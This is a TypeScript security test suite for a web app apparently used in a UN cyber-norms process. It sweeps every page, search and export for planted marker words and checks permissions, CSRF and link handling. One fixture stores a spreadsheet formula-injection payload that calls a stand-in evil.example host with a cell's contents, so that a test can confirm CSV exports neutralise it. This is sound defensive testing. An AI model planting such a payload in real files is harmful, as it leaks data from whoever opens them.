/**
 * Leak hunt across capabilities: restricted items are created through the real API, each carrying a
 * unique marker word, and then every GET the wrong readers can reach is swept for that word. A second
 * group checks that writes refuse another State's delegate and that the sweep itself wrote nothing.
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { runDueJobs } from './jobs.ts';
import { testApp, type Client } from '../testing/app.ts';
import { accreditDirectly, createDtgMeeting } from '../testing/factories.ts';

type Ctx = Awaited<ReturnType<typeof testApp>>;
let ctx: Ctx;

// Plain lower-case words, so full-text search can find them when it wrongly may.
const M = {
  reportSecret: 'zqxreportsecret', // submitted NZL report, visibility secretariat
  reportDraft: 'zqxreportdraft', // NZL's unsubmitted working draft: owner only
  docDraft: 'zqxdocdraft', // a meeting record still in draft: chair and Secretariat
  docSecret: 'zqxdocsecret', // a published record with visibility secretariat
  poc: 'zqxpocname', // an NZL point of contact: States and Secretariat only
  objection: 'zqxobjectionbasis', // NZL objection not shared: NZL, chair, Secretariat
  working: 'zqxworkingpara', // a paragraph of a never-issued working version
  comm: 'zqxcommsituation', // NZL → FRA communication: NZL, FRA, Secretariat
  notice: 'zqxremindernote', // a reminder's note, in NZL's in-app notices: NZL and the Secretariat
  subscriber: 'zqxsubscriber', // a person on the Global Mechanism's interest list: the Secretariat only
  representative: 'zqxdelegaterep', // a stakeholder's representative at a DTG meeting: that organisation and the Secretariat
} as const;
type Marker = keyof typeof M;

const ids = {} as {
  cycle: number;
  report: number;
  fraReport: number;
  meeting: number;
  dtgMeeting: number;
  dtgDraft: number;
  dtgSecret: number;
  docDraft: number;
  docSecret: number;
  poc: number;
  app: number;
  draftNew: number;
  draftIssued: number;
  comm: number;
  pendingImport: number;
};

async function ok(res: Response, what: string) {
  if (res.status >= 300 && res.status !== 303) assert.fail(`${what}: ${res.status} ${await res.text()}`);
  return res.status === 303 ? null : ((await res.json()) as Record<string, any>);
}

const challenge = 'Our national CERT lacks trained staff and funding to run incident coordination exercises with critical infrastructure operators';

before(async () => {
  ctx = await testApp();
  const sec = await ctx.as('secretariat');
  const chair = await ctx.as('chair');
  const nzl = await ctx.as('delegate');
  const fra = await ctx.as('otherDelegate');

  // Reporting: NZL submits a Secretariat-only report, then keeps working on an unsubmitted draft.
  const cy = await ok(
    await sec.request('/api/v1/reporting/cycles', {
      json: { title: 'Leak survey', opensOn: '2026-01-01', dueOn: '2099-06-30', closesOn: '2099-12-31', states: ['NZL', 'FRA', 'MEX'] },
    }),
    'cycle',
  );
  ids.cycle = cy!.cycle.id;
  const r = await ok(await nzl.request(`/api/v1/reporting/cycles/${ids.cycle}/reports`, { json: { language: 'en', visibility: 'secretariat' } }), 'start');
  ids.report = r!.report.id;
  const secretAnswers = {
    general: { internationalLawViews: `Views ${M.reportSecret} on law.`, pointsOfContact: `Desk ${M.reportSecret}` },
    elements: {
      'norm-a': {
        status: 'implemented',
        measures: `Measures ${M.reportSecret}.`,
        challenges: `${challenge} ${M.reportSecret}`,
        goodPractices: `Practice ${M.reportSecret}`,
      },
      'cbm-poc': { status: 'planned', challenges: `${challenge} ${M.reportSecret}` },
    },
    capacityNeeds: [{ element: 'norm-a', kind: 'training', priority: 'high', description: `Need ${M.reportSecret}` }],
  };
  await ok(await nzl.request(`/api/v1/reports/${ids.report}/draft`, { method: 'PUT', json: { lockVersion: 0, answers: secretAnswers } }), 'save');
  await ok(await nzl.request(`/api/v1/reports/${ids.report}/submit`, { json: { lockVersion: 1 } }), 'submit');
  const draftAnswers = { ...secretAnswers, general: { internationalLawViews: `Unsent ${M.reportDraft} views.` } };
  await ok(await nzl.request(`/api/v1/reports/${ids.report}/draft`, { method: 'PUT', json: { lockVersion: 1, answers: draftAnswers } }), 'save draft');
  // An upload NZL has not confirmed yet: its review page shows the pending text.
  const pending = await ok(
    await nzl.request(`/api/v1/reports/${ids.report}/imports?format=json`, {
      json: { ...draftAnswers, general: { internationalLawViews: `Pending ${M.reportDraft} upload.` } },
    }),
    'pending import',
  );
  ids.pendingImport = pending!.preview.importId;
  // A reminder to NZL alone: its note lands in NZL's notices on its tasks page.
  await ok(await sec.request(`/api/v1/reporting/cycles/${ids.cycle}/reminders`, { json: { states: ['NZL'], note: `Note ${M.notice} for NZL.` } }), 'reminder');
  // FRA reports publicly with a near-identical challenge, so both land in one cluster.
  const fr = await ok(await fra.request(`/api/v1/reporting/cycles/${ids.cycle}/reports`, { json: { language: 'en', visibility: 'public' } }), 'fra start');
  ids.fraReport = fr!.report.id;
  await ok(
    await fra.request(`/api/v1/reports/${ids.fraReport}/draft`, {
      method: 'PUT',
      json: {
        lockVersion: 0,
        answers: {
          elements: { 'norm-a': { status: 'in-progress', challenges: challenge, measures: '=HYPERLINK("https://evil.example/?x="&A1,"click")' } },
        },
      },
    }),
    'fra save',
  );
  await ok(await fra.request(`/api/v1/reports/${ids.fraReport}/submit`, { json: { lockVersion: 1 } }), 'fra submit');

  // Records: a draft record and a published Secretariat-only record in one meeting.
  const proc = await ctx.db.selectFrom('processes').select('id').where('slug', '=', 'oewg-2021-2025').executeTakeFirstOrThrow();
  const ses = await ok(
    await sec.request('/api/v1/sessions', { json: { processId: proc.id, number: 901, title: 'Leak session', startsOn: '2022-03-28', endsOn: '2022-04-01' } }),
    'session',
  );
  const mt = await ok(
    await sec.request('/api/v1/meetings', { json: { sessionId: ses!.session.id, number: 1, heldOn: '2022-03-29', agenda: 'institutional-dialogue' } }),
    'meeting',
  );
  ids.meeting = mt!.meeting.id;
  const doc = (word: string, visibility: string) => ({
    meetingId: ids.meeting,
    filename: `${word}.txt`,
    kind: 'event-report',
    visibility,
    contentBase64: Buffer.from(
      `Informal meeting\nThe representative of New Zealand stated that points of contact need ${word} support for the programme of action.\nThe Chair thanked delegations.`,
    ).toString('base64'),
  });
  ids.docDraft = (await ok(await chair.request('/api/v1/documents', { json: doc(M.docDraft, 'public') }), 'doc draft'))!.document.id;
  ids.docSecret = (await ok(await sec.request('/api/v1/documents', { json: doc(M.docSecret, 'secretariat') }), 'doc secret'))!.document.id;
  await ok(await sec.request(`/api/v1/documents/${ids.docSecret}/publish`, { json: {} }), 'publish');
  // The same two records in a Global Mechanism thematic group meeting with a guiding question: its
  // summary, exports and the process pages must not quote them either.
  ids.dtgMeeting = (await createDtgMeeting(ctx.db, { sessionNumber: 901 })).meetingId;
  await ok(
    await sec.request(`/api/v1/meetings/${ids.dtgMeeting}/guiding-questions`, {
      json: { text: 'What support do points of contact need for the programme of action?' },
    }),
    'question',
  );
  const dtgDoc = (word: string, visibility: string) => ({ ...doc(word, visibility), meetingId: ids.dtgMeeting, filename: `dtg-${word}.txt` });
  ids.dtgDraft = (await ok(await chair.request('/api/v1/documents', { json: dtgDoc(M.docDraft, 'public') }), 'dtg draft'))!.document.id;
  ids.dtgSecret = (await ok(await sec.request('/api/v1/documents', { json: dtgDoc(M.docSecret, 'secretariat') }), 'dtg secret'))!.document.id;
  await ok(await sec.request(`/api/v1/documents/${ids.dtgSecret}/publish`, { json: {} }), 'dtg publish');
  // Stakeholders of the Global Mechanism: a confirmed person on the interest list, and a named
  // representative of the accredited organisation for the thematic group meeting.
  const signUp = await (
    await ctx.as('public')
  ).request('/stakeholders/interest-list', { form: { name: `Person ${M.subscriber}`, email: `${M.subscriber}@example.org`, affiliation: '', language: 'en' } });
  assert.equal(signUp.status, 303);
  await ctx.db
    .updateTable('interest_subscribers')
    .set({ status: 'confirmed', confirmed_at: new Date() })
    .where('email', '=', `${M.subscriber}@example.org`)
    .execute();
  const stakeholderOrg = await ctx.db.selectFrom('users').select('organisation_id').where('email', '=', 'stakeholder@accord.test').executeTakeFirstOrThrow();
  await accreditDirectly(ctx.db, stakeholderOrg.organisation_id!, 'global-mechanism');
  await ok(
    await (
      await ctx.as('stakeholder')
    ).request(`/api/v1/meetings/${ids.dtgMeeting}/representatives`, {
      json: { name: `Rep ${M.representative}`, email: `${M.representative}@example.org`, function: 'Policy lead' },
    }),
    'representative',
  );

  // Registry: NZL's and FRA's points of contact, then a communication NZL → FRA.
  const poc = (iso: string, name: string) => ({
    stateIso3: iso,
    name,
    role: 'technical',
    organisation: 'National CERT',
    email: `${iso.toLowerCase()}@cert.example.org`,
    phone: '+64 4 439 8000',
    languages: ['en'],
    timeZone: 'Pacific/Auckland',
  });
  ids.poc = (await ok(await nzl.request('/api/v1/points-of-contact', { json: poc('NZL', `Desk ${M.poc}`) }), 'poc'))!.pointOfContact.id;
  await ok(await fra.request('/api/v1/points-of-contact', { json: poc('FRA', 'Bureau CERT-FR') }), 'fra poc');
  ids.comm = (await ok(
    await nzl.request('/api/v1/communications', {
      json: { toState: 'FRA', template: 'incident-notification', situation: `Incident ${M.comm} affecting a port.` },
    }),
    'comm',
  ))!.communication.id;

  // Stakeholders: an application under the no-objection procedure; NZL objects without sharing.
  ids.app = (await ok(
    await ctx.as('public').then((p) =>
      p.request('/api/v1/accreditation/applications', {
        json: {
          name: 'Leak Test Institute',
          kind: 'academia',
          description: 'Research on ICT security and international law for twenty years.',
          contactName: 'Ann Example',
          contactEmail: 'ann@example.org',
        },
      }),
    ),
    'apply',
  ))!.application.id;
  await ok(
    await nzl.request(`/api/v1/accreditation/applications/${ids.app}/objections`, { json: { basis: `Basis ${M.objection}.`, shareWithStates: false } }),
    'objection',
  );

  // Drafting: a draft never issued, and a draft whose zero draft is issued with a working Rev.1.
  ids.draftNew = (await ok(
    await chair.request('/api/v1/drafts', {
      json: { title: 'Unissued leak draft', paragraphs: [{ section: 'introduction', text: `The working group ${M.working} agreed to meet.` }] },
    }),
    'draft',
  ))!.draft.id;
  ids.draftIssued = (await ok(
    await chair.request('/api/v1/drafts', {
      json: { title: 'Issued leak draft', paragraphs: [{ section: 'introduction', text: 'The working group met in New York and adopted its agenda.' }] },
    }),
    'draft2',
  ))!.draft.id;
  await ok(await chair.request(`/api/v1/drafts/${ids.draftIssued}/issue`, { json: {} }), 'issue');
  await ok(
    await chair.request(`/api/v1/drafts/${ids.draftIssued}/paragraphs`, {
      json: { section: 'introduction', text: `The Chair added ${M.working} language for Rev.1.` },
    }),
    'para',
  );

  // Routes whose items the fixture does not make are swept on the first such item there is (or a guessed id).
  const first = async (table: 'amendments' | 'communication_checks' | 'stakeholder_contributions' | 'capacity_take_ups') =>
    Number(
      (
        await ctx.db
          .selectFrom(table)
          .select((eb) => eb.fn.min('id').as('id'))
          .executeTakeFirst()
      )?.id ?? 1,
    );
  Object.assign(looked, {
    amendment: await first('amendments'),
    communicationCheck: await first('communication_checks'),
    contribution: await first('stakeholder_contributions'),
    takeUp: await first('capacity_take_ups'),
    mechanism: (await ctx.db.selectFrom('mechanisms').select('slug').orderBy('id').executeTakeFirst())?.slug ?? 'none',
    frameworkVersion: (await ctx.db.selectFrom('framework_versions').select('id').where('is_current', '=', true).executeTakeFirstOrThrow()).id,
  });
});
after(() => ctx?.close());

/**
 * The GET routes the sweep leaves out, with the reason. Every other GET route the app registers is
 * swept, so a new page, export or API read is hunted for markers the day it is added.
 */
const UNSWEPT: Array<[RegExp, string]> = [
  [/^\/assets\/:name$/, 'static files'],
  [/\.(docx|pdf)$/, 'zipped or compressed bytes, where a marker cannot be found: see the binary exports test'],
  [/\/:token$/, 'acknowledgement and interest-list links: secret tokens, and their GET only confirms (see the acknowledgement test)'],
];

/**
 * What each route parameter stands for, by the path segment before it (`reports/:id`) or its name
 * alone (`:iso3`): the restricted items of the fixture, and for items the fixture does not make
 * (mechanisms, communication checks, take-ups …) the first one in the database. A parameter missing here fails the
 * sweep by name, so a route with a new kind of id has to say which items it shows.
 */
function parameterValues(): Record<string, Array<string | number>> {
  const { cycle, report, fraReport, meeting, dtgMeeting, docDraft, docSecret, dtgDraft, dtgSecret, poc, app, draftNew, draftIssued, comm, pendingImport } = ids;
  return {
    'reports/:id': [report, fraReport],
    'revisions/:n': [1],
    'imports/:importId': [pendingImport],
    'cycles/:id': [cycle, 'latest'],
    'meetings/:id': [meeting, dtgMeeting],
    'documents/:id': [docDraft, docSecret, dtgDraft, dtgSecret],
    'drafts/:id': [draftNew, draftIssued],
    'v/:n': [0, 1],
    'versions/:n': [0, 1],
    'amendments/:id': [looked.amendment],
    'contacts/:id': [poc],
    'points-of-contact/:id': [poc],
    'communications/:id': [comm],
    'communication-checks/:id': [looked.communicationCheck],
    'pings/:id': [looked.communicationCheck],
    'mechanisms/:slug': [looked.mechanism],
    'applications/:id': [app],
    'contributions/:id': [looked.contribution],
    'take-ups/:id': [looked.takeUp],
    ':slug': ['global-mechanism', 'oewg-2021-2025'],
    ':iso3': ['NZL', 'FRA'],
    'elements/:id': ['norm-a', 'cbm-poc'],
    ':version': [looked.frameworkVersion],
    ':question': ['new-institutional-body'],
  };
}

/** A query string some routes need to show anything (a diff needs its two versions). */
const QUERY: Record<string, string> = {
  '/reports/:id/diff': 'from=1&to=1',
  '/api/v1/reports/:id/diff': 'from=1&to=1',
  '/drafts/:id/diff': 'from=0&to=1',
  '/api/v1/drafts/:id/diff': 'from=0&to=1',
};

/** Searches and filters: the same routes again with a query that could surface a marker. */
function queryVariants(): string[] {
  // Upper case: full-text search folds case, while the echoed search box never contains the lower-case marker.
  const q = (m: Marker) => encodeURIComponent(M[m].toUpperCase());
  const { cycle, report, meeting } = ids;
  return [
    `/reporting?q=${q('reportSecret')}`,
    `/reporting?q=${q('reportDraft')}`,
    `/api/v1/reports?q=${q('reportSecret')}`,
    `/api/v1/reports?q=${q('reportDraft')}`,
    '/api/v1/reports?state=NZL',
    `/api/v1/reports/${report}/export.json?source=draft`,
    `/api/v1/reports/${report}/export.csv?source=draft`,
    `/api/v1/analysis/cycles/${cycle}?region=weog`,
    `/search?q=${q('docDraft')}`,
    `/search?q=${q('docSecret')}`,
    `/api/v1/search?q=${q('docDraft')}`,
    `/api/v1/search?q=${q('docSecret')}`,
    `/search/statements.csv?q=${q('docDraft')}`,
    `/search/statements.csv?meeting=${meeting}`,
    '/states?process=global-mechanism',
    '/states?process=oewg-2021-2025',
    '/positions?process=global-mechanism',
    '/meetings?process=global-mechanism',
    '/states/compare?states=NZL,FRA,MEX',
    '/api/v1/states/compare?states=NZL,FRA,MEX',
    '/points-of-contact?state=NZL',
    '/api/v1/points-of-contact?state=NZL',
  ];
}

/** Ids of items the fixture does not create itself, looked up once the fixture is in place. */
const looked = {} as { amendment: number; communicationCheck: number; mechanism: string; contribution: number; takeUp: number; frameworkVersion: string };

/** The GET routes as the app registers them. */
const getRoutes = () => [...new Set(ctx.app.routes.filter((r) => r.method === 'GET').map((r) => r.path))];
const unswept = (route: string) => UNSWEPT.some(([re]) => re.test(route));

/** One concrete path per combination of parameter values (and the query the route needs). */
function expand(route: string, values: Record<string, Array<string | number>>): string[] {
  let out = [''];
  const segments = route.split('/').slice(1);
  segments.forEach((seg, i) => {
    if (!seg.startsWith(':')) {
      out = out.map((p) => `${p}/${seg}`);
      return;
    }
    const choices = values[`${segments[i - 1]}/${seg}`] ?? values[seg];
    if (!choices)
      throw new Error(`the leak sweep does not know what ${seg} stands for in GET ${route}: add it to parameterValues() (or to UNSWEPT, with the reason)`);
    out = out.flatMap((p) => choices.map((v) => `${p}/${encodeURIComponent(String(v))}`));
  });
  return out.map((p) => (QUERY[route] ? `${p}?${QUERY[route]}` : p));
}

/** Every GET a reader might use to reach restricted items: each route of the app, then searches and filters. */
function paths(): string[] {
  const values = parameterValues();
  return [
    ...getRoutes()
      .filter((r) => !unswept(r))
      .flatMap((r) => expand(r, values)),
    ...queryVariants(),
  ];
}

/** Fetches every path as the client and returns "path: marker" for each forbidden marker found. */
async function sweep(client: Client, forbidden: Marker[], skip?: RegExp) {
  const leaks: string[] = [];
  for (const p of paths()) {
    if (skip?.test(p)) continue;
    const res = await client.request(p);
    const body = await res.text();
    for (const m of forbidden) if (body.includes(M[m])) leaks.push(`${p} (${res.status}): ${m}`);
  }
  return leaks;
}

const mex = () => ctx.as({ email: 'mex@accord.test' });

test('the sweep covers every GET route the app registers, but those left out with a reason', () => {
  const swept = new Set(paths().map((p) => p.split('?')[0]));
  const values = parameterValues();
  const missing = getRoutes().filter((r) => !unswept(r) && !expand(r, values).some((p) => swept.has(p.split('?')[0])));
  assert.deepEqual(missing, []);
  // The query variants are of routes that exist, so a renamed route cannot leave its searches behind.
  const pattern = (r: string) => new RegExp(`^${r.replace(/:[^/]+/g, '[^/]+').replace(/\./g, '\\.')}$`);
  const routes = getRoutes().map(pattern);
  assert.deepEqual(
    queryVariants().filter((p) => !routes.some((re) => re.test(p.split('?')[0]))),
    [],
  );
  assert.ok(swept.size > 150, `only ${swept.size} paths swept`);
});

test('the sweep can see each marker where it is allowed (guards against a sweep that finds nothing)', async () => {
  const found = async (client: Client, marker: Marker, path: string) =>
    assert.ok((await (await client.request(path)).text()).includes(M[marker]), `${marker} at ${path}`);
  await found(await ctx.as('secretariat'), 'reportSecret', `/api/v1/reports/${ids.report}`);
  await found(await ctx.as('delegate'), 'reportDraft', `/api/v1/reports/${ids.report}/draft`);
  await found(await ctx.as('chair'), 'docDraft', `/api/v1/documents/${ids.docDraft}`);
  await found(await ctx.as('secretariat'), 'docSecret', `/api/v1/documents/${ids.docSecret}`);
  await found(await ctx.as('otherDelegate'), 'poc', '/api/v1/points-of-contact?state=NZL');
  await found(await ctx.as('chair'), 'objection', `/api/v1/accreditation/applications/${ids.app}`);
  await found(await ctx.as('chair'), 'working', `/api/v1/drafts/${ids.draftNew}/versions/0`);
  await found(await ctx.as('otherDelegate'), 'comm', `/points-of-contact/communications/${ids.comm}`);
  await found(await ctx.as('delegate'), 'notice', '/tasks');
  await found(await ctx.as('delegate'), 'notice', '/api/v1/tasks');
  await found(await ctx.as('secretariat'), 'docSecret', `/api/v1/search?q=${M.docSecret.toUpperCase()}`);
  await found(await ctx.as('chair'), 'docDraft', `/search/statements.csv?q=${M.docDraft.toUpperCase()}`);
  await found(await ctx.as('chair'), 'docDraft', `/api/v1/documents/${ids.dtgDraft}`);
  await found(await ctx.as('secretariat'), 'subscriber', '/stakeholders/interest-list/subscribers.csv');
  await found(await ctx.as('secretariat'), 'representative', `/api/v1/meetings/${ids.dtgMeeting}/representatives`);
  await found(await ctx.as('stakeholder'), 'representative', `/api/v1/meetings/${ids.dtgMeeting}/representatives`);
  await found(await ctx.as('secretariat'), 'docSecret', `/api/v1/meetings/${ids.dtgMeeting}/dtg-summary`);
  await found(await ctx.as('secretariat'), 'docSecret', `/thematic-groups/meetings/${ids.dtgMeeting}`);
});

test('the public sees no restricted marker on any page, search, export or API', async () => {
  assert.deepEqual(await sweep(await ctx.as('public'), Object.keys(M) as Marker[]), []);
});

test('an accredited stakeholder sees no restricted marker but its own representative', async () => {
  assert.deepEqual(
    await sweep(
      await ctx.as('stakeholder'),
      (Object.keys(M) as Marker[]).filter((m) => m !== 'representative'),
    ),
    [],
  );
});

test("another State (FRA) sees neither NZL's restricted report, its draft, draft records, working drafts nor an unshared objection", async () => {
  assert.deepEqual(
    await sweep(await ctx.as('otherDelegate'), [
      'reportSecret',
      'reportDraft',
      'docDraft',
      'docSecret',
      'objection',
      'working',
      'notice',
      'subscriber',
      'representative',
    ]),
    [],
  );
});

test('a third State (MEX) does not see a communication between NZL and FRA', async () => {
  assert.deepEqual(await sweep(await mex(), ['comm', 'reportSecret', 'reportDraft', 'objection', 'notice']), []);
});

test("the Chair sees neither a Secretariat-only report, a Secretariat-only record, NZL's draft nor the communication", async () => {
  // The review page is covered by its own BUG test below.
  assert.deepEqual(
    await sweep(await ctx.as('chair'), ['reportSecret', 'reportDraft', 'docSecret', 'comm', 'notice', 'subscriber', 'representative'], /\/review$/),
    [],
  );
});

test("the Secretariat never reads a delegation's unsubmitted draft", async () => {
  assert.deepEqual(await sweep(await ctx.as('secretariat'), ['reportDraft']), []);
});

test("report search and lists never list NZL's restricted report to other readers; drafts are never indexed", async () => {
  const listed = async (client: Client, path: string) => {
    const body = await (await client.request(path)).text();
    return body.includes(`"id":${ids.report},`) || body.includes(`href="/reports/${ids.report}"`);
  };
  const sq = `q=${M.reportSecret.toUpperCase()}`;
  const dq = `q=${M.reportDraft.toUpperCase()}`;
  assert.ok(await listed(await ctx.as('secretariat'), `/api/v1/reports?${sq}`), 'search finds the report for the Secretariat');
  assert.ok(await listed(await ctx.as('secretariat'), `/reporting?${sq}`));
  assert.equal(await listed(await ctx.as('secretariat'), `/api/v1/reports?${dq}`), false, 'draft text is searchable');
  for (const role of ['public', 'otherDelegate', 'chair', 'stakeholder'] as const) {
    const c = await ctx.as(role);
    for (const p of [
      `/api/v1/reports?${sq}`,
      `/api/v1/reports?${dq}`,
      '/api/v1/reports?state=NZL',
      `/reporting?${sq}`,
      '/reporting',
      '/states/NZL',
      `/reporting/cycles/${ids.cycle}`,
    ]) {
      assert.equal(await listed(c, p), false, `${role} sees report ${ids.report} at ${p}`);
    }
  }
});

test('binary exports of a restricted report or unissued draft are refused to the wrong readers', async () => {
  for (const role of ['public', 'otherDelegate', 'chair', 'stakeholder'] as const) {
    const c = await ctx.as(role);
    for (const p of [
      `/api/v1/reports/${ids.report}/export.docx`,
      `/api/v1/reports/${ids.report}/export.docx?source=draft`,
      `/drafts/${ids.draftNew}/v/0/docx`,
      `/drafts/${ids.draftIssued}/v/1/docx`,
      `/drafts/${ids.draftIssued}/v/1/compilation.docx`,
    ]) {
      const res = await c.request(p);
      if (role === 'chair' && p.startsWith('/drafts')) continue; // the Chair reads working versions
      assert.ok(res.status >= 400, `${role} ${p} answered ${res.status}`);
    }
  }
});

test('GET requests changed nothing: no audit event and no row was written by the sweeps', async () => {
  // One GET is audited on purpose: the Secretariat's export of the interest list's personal data.
  const count = async () =>
    Number(
      (
        await ctx.db
          .selectFrom('audit_events')
          .select((eb) => eb.fn.countAll().as('n'))
          .where('action', '!=', 'interest.exported')
          .executeTakeFirstOrThrow()
      ).n,
    );
  const before = await count();
  await sweep(await ctx.as('delegate'), []);
  await sweep(await ctx.as('secretariat'), []);
  assert.equal(await count(), before);
});

test("a delegate of FRA cannot act on NZL's report or point of contact", async () => {
  const fra = await ctx.as('otherDelegate');
  const attempts: Array<[string, Promise<Response>]> = [
    ['save draft', fra.request(`/api/v1/reports/${ids.report}/draft`, { method: 'PUT', json: { lockVersion: 2, answers: {} } })],
    ['submit', fra.request(`/api/v1/reports/${ids.report}/submit`, { json: { lockVersion: 2 } })],
    ['settings', fra.request(`/api/v1/reports/${ids.report}`, { method: 'PATCH', json: { visibility: 'public' } })],
    ['withdraw', fra.request(`/api/v1/reports/${ids.report}/withdraw`, { json: {} })],
    ['translate', fra.request(`/api/v1/reports/${ids.report}/revisions/1/translations`, { json: { language: 'fr', method: 'human', answers: {} } })],
    ['page settings', fra.request(`/reports/${ids.report}/settings`, { form: { visibility: 'public' } })],
    ['page withdraw', fra.request(`/reports/${ids.report}/withdraw`, { form: {} })],
    ['page edit', fra.request(`/reports/${ids.report}/edit`, { form: { lockVersion: '2' } })],
    ['confirm import', fra.request(`/api/v1/reports/${ids.report}/imports/${ids.pendingImport}/confirm`, { json: { confirmEmptying: true } })],
    ['cancel import', fra.request(`/api/v1/reports/${ids.report}/imports/${ids.pendingImport}/cancel`, { json: {} })],
    ['page confirm import', fra.request(`/reports/${ids.report}/imports/${ids.pendingImport}/confirm`, { form: { confirmEmptying: '1' } })],
    ['page cancel import', fra.request(`/reports/${ids.report}/imports/${ids.pendingImport}/cancel`, { form: {} })],
    [
      'poc put',
      fra.request(`/api/v1/points-of-contact/${ids.poc}`, {
        method: 'PUT',
        json: {
          name: 'Hijacked',
          role: 'technical',
          organisation: 'X org',
          email: 'x@example.org',
          phone: '+33 1 00 00 00 00',
          languages: ['fr'],
          timeZone: 'Europe/Paris',
        },
      }),
    ],
    [
      'poc post NZL',
      fra.request('/api/v1/points-of-contact', {
        json: {
          stateIso3: 'NZL',
          name: 'Hijacked',
          role: 'technical',
          organisation: 'X org',
          email: 'x@example.org',
          phone: '+33 1 00 00 00 00',
          languages: ['fr'],
          timeZone: 'Europe/Paris',
        },
      }),
    ],
    [
      'poc form',
      fra.request(`/points-of-contact/${ids.poc}`, {
        form: {
          name: 'Hijacked',
          role: 'technical',
          organisation: 'X org',
          email: 'x@example.org',
          phone: '+33100000000',
          languages: 'fr',
          timeZone: 'Europe/Paris',
        },
      }),
    ],
    ['poc retire', fra.request(`/points-of-contact/${ids.poc}/retire`, { form: {} })],
  ];
  for (const [what, p] of attempts) {
    const res = await p;
    assert.ok(res.status === 403 || res.status === 404, `${what}: ${res.status}`);
  }
  const r = await ctx.db.selectFrom('national_reports').select(['visibility', 'status', 'lock_version']).where('id', '=', ids.report).executeTakeFirstOrThrow();
  assert.deepEqual(r, { visibility: 'secretariat', status: 'submitted', lock_version: 2 });
  const p = await ctx.db
    .selectFrom('points_of_contact_current')
    .select(['name', 'active'])
    .where('point_of_contact_id', '=', ids.poc)
    .executeTakeFirstOrThrow();
  assert.deepEqual(p, { name: `Desk ${M.poc}`, active: true });
});

test('state-changing requests without the CSRF token are refused', async () => {
  const nzl = await ctx.as('delegate');
  const headers = { 'x-csrf-token': 'wrong-token-wrong-token-wrong' };
  for (const [path, method] of [
    [`/api/v1/reports/${ids.report}`, 'PATCH'],
    [`/api/v1/reports/${ids.report}/withdraw`, 'POST'],
    ['/api/v1/points-of-contact', 'POST'],
  ] as const) {
    const res = await nzl.request(path, {
      method,
      headers: { ...headers, 'content-type': 'application/json' },
      body: JSON.stringify({ visibility: 'public' }),
    });
    assert.equal(res.status, 403, `${method} ${path}`);
  }
  // An empty header makes the middleware read the form field instead (the client adds a good header otherwise).
  const form = await nzl.request(`/reports/${ids.report}/withdraw`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-csrf-token': '' },
    body: '_csrf=nope',
  });
  assert.equal(form.status, 403);
  assert.equal((await ctx.db.selectFrom('national_reports').select('status').where('id', '=', ids.report).executeTakeFirstOrThrow()).status, 'submitted');
});

test('an acknowledgement link works once; the GET page only confirms and never acknowledges', async () => {
  const sec = await ctx.as('secretariat');
  const sent = await ok(
    await sec.request('/api/v1/communications', {
      json: { fromState: 'FRA', toState: 'NZL', template: 'general', situation: 'Routine check of the directory entries.' },
    }),
    'comm2',
  );
  const link = new URL(sent!.links[0].link).pathname;
  const pub = await ctx.as('public');
  await pub.request(link);
  await pub.request(link);
  const token = link.split('/').pop()!;
  assert.equal((await pub.request(`/api/v1/acks/${token}`, { json: {} })).status, 200, 'GET must not have used the link');
  assert.equal((await pub.request(`/api/v1/acks/${token}`, { json: {} })).status, 409);
});

// ——— Confirmed bugs: these fail until fixed (see the report). ———

test('a report CSV export neutralises spreadsheet formulas', async () => {
  const csv = await (await (await ctx.as('public')).request(`/api/v1/reports/${ids.fraReport}/export.csv`)).text();
  const cells = csv.split(/\r\n/).map((l) => l.slice(l.indexOf(',') + 1).replace(/^"/, ''));
  assert.ok(csv.includes('HYPERLINK'), 'the FRA measures are exported');
  assert.deepEqual(
    cells.filter((c) => /^[=+\-@]/.test(c)),
    [],
    'a cell starting with = + - @ runs as a formula',
  );
});

test('challenge clusters do not count a withheld restricted report per region', async () => {
  // Two reports mention the challenge: FRA's public one and NZL's Secretariat-only one (below N=3, so withheld).
  const a = (await (await (await ctx.as('public')).request(`/api/v1/analysis/cycles/${ids.cycle}`)).json()) as {
    elements: Array<{ id: string; challenges: { suppressed: boolean; clusters: Array<{ count: number; byRegion: Record<string, number> }> } }>;
  };
  const el = a.elements.find((e) => e.id === 'norm-a')!;
  assert.equal(el.challenges.suppressed, true, 'NZL is withheld from the public aggregate');
  for (const k of el.challenges.clusters) {
    const inRegions = Object.values(k.byRegion).reduce((s, n) => s + n, 0);
    assert.ok(inRegions <= k.count, `cluster of ${k.count} shown to the public counts ${inRegions} by region: ${JSON.stringify(k.byRegion)}`);
  }
});

test('the public outcome notice does not name the objecting State', async () => {
  const pub = await ctx.as('public');
  const fra = await ctx.as('otherDelegate');
  const app = await ok(
    await pub.request('/api/v1/accreditation/applications', {
      json: {
        name: 'Second Leak Institute',
        kind: 'ngo',
        description: 'Civil society work on cyber norms and capacity building.',
        contactName: 'Bo Example',
        contactEmail: 'bo@example.org',
      },
    }),
    'apply2',
  );
  await ok(
    await fra.request(`/api/v1/accreditation/applications/${app!.application.id}/objections`, { json: { basis: 'Shared basis.', shareWithStates: true } }),
    'fra objects',
  );
  await runDueJobs(ctx.db, { now: new Date(Date.now() + 90 * 24 * 3600_000) });
  const one = (await (await pub.request(`/api/v1/accreditation/applications/${app!.application.id}`)).json()) as {
    application: { status: string; outcomeNotice: string | null };
  };
  assert.equal(one.application.status, 'not-accredited');
  const list = await (await pub.request('/api/v1/accreditation/applications')).text();
  const page = await (await pub.request(`/stakeholders/applications/${app!.application.id}`)).text();
  for (const [where, body] of [
    ['application', JSON.stringify(one)],
    ['list', list],
    ['page', page],
  ]) {
    assert.doesNotMatch(body, /Objection made by: France/, `${where}: the public learns which State objected; sharing was with States`);
  }
});

test("another State's delegate gets 404, not 403, on an NZL report it may not see", async () => {
  const fra = await ctx.as('otherDelegate');
  const missing = await fra.request('/api/v1/reports/999999/draft', { method: 'PUT', json: { lockVersion: 0, answers: {} } });
  assert.equal(missing.status, 404);
  // NZL's report is Secretariat-only: FRA must not be able to tell it exists.
  const real = await fra.request(`/api/v1/reports/${ids.report}/draft`, { method: 'PUT', json: { lockVersion: 0, answers: {} } });
  assert.equal(real.status, missing.status, 'a different status reveals that the id is an existing report');
});

test("the review page applies the record's visibility", async () => {
  // The Chair reviews records but is not the Secretariat: a Secretariat-only record is hidden from it everywhere else.
  const res = await (await ctx.as('chair')).request(`/documents/${ids.docSecret}/review`);
  const body = await res.text();
  assert.ok(!body.includes(M.docSecret), `the Chair reads a Secretariat-only record (${res.status})`);
});

